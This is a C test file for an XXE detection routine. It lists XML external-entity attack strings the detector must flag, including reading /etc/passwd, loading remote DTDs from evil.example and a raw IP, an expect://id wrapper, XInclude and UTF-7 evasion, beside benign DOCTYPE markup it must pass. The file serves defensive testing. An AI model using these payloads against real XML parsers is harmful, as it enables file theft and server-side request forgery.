/* sk_detect_xxe: attacks caught at both levels, benign markup passed. */
#include "lists.h"

static const char *const attacks[] = {
    /* external entities, general and parameter */
    "<!DOCTYPE foo [ <!ELEMENT foo ANY ><!ENTITY xxe SYSTEM \"file:///etc/passwd\" >]>"
    "<foo>&xxe;</foo>",
    "<!DOCTYPE x [<!ENTITY % xxe PUBLIC \"any_text\" \"http://evil.example/evil.dtd\">%xxe;]>",
    "<!DOCTYPE x [ <!ENTITY % y SYSTEM \"//y/y\" > %y; ]><x>a</x>",
    "<!DOCTYPE r [<!ENTITY % p \"<!ENTITY x 'y'>\">]>",
    "<!entity xxe system 'expect://id'>",
    /* an external DTD subset */
    "<!DOCTYPE x SYSTEM \"//x/x\" > <x>a</x>",
    "<?xml version=\"1.0\"?><!DOCTYPE r SYSTEM \"http://203.0.113.5/a.dtd\"><r/>",
    "<!DOCTYPE r PUBLIC \"anything\" \"http://evil.example/a.dtd\">",
    "<!DOCTYPE r SYSTEM \"../../../../etc/x.dtd\"><r/>",
    /* XInclude */
    "<r xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"/etc/passwd\" "
    "parse=\"text\"/></r>",
    /* XML declared in UTF-7 */
    "<?xml version=\"1.0\" encoding=\"UTF-7\"?>\n+ADwAIQ-DOCTYPE foo+AFs",
    "<?xml version='1.0' encoding = 'utf-7' ?>",
    "<?xml version='1.0' encoding='utf-7",
};

static const char *const benign[] = {
    "<!DOCTYPE html>",
    "<!DOCTYPE html SYSTEM \"about:legacy-compat\">",
    "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" "
    "\"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">",
    "<!DOCTYPE book PUBLIC \"-//OASIS//DTD DocBook XML V4.5//EN\" "
    "\"http://www.oasis-open.org/docbook/xml/4.5/docbookx.dtd\">",
    "<!DOCTYPE note [ <!ELEMENT note (#PCDATA)> ]><note>hi</note>",
    /* a DTD shipped beside the document, as configuration files name it */
    "<?xml version=\"1.0\"?><!DOCTYPE catalog SYSTEM \"catalog.dtd\"><catalog/>",
    "use an entity declaration like <!ENTITY name \"value\"> to define text",
    "the <!ENTITY> declaration and SYSTEM identifiers are explained in chapter 4",
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?><a>x</a>",
    "<p>see http://www.w3.org/2001/XInclude for the spec</p>",
    "x < 9 and y <!-- note --> z",
};

LIST_TESTS(sk_detect_xxe)
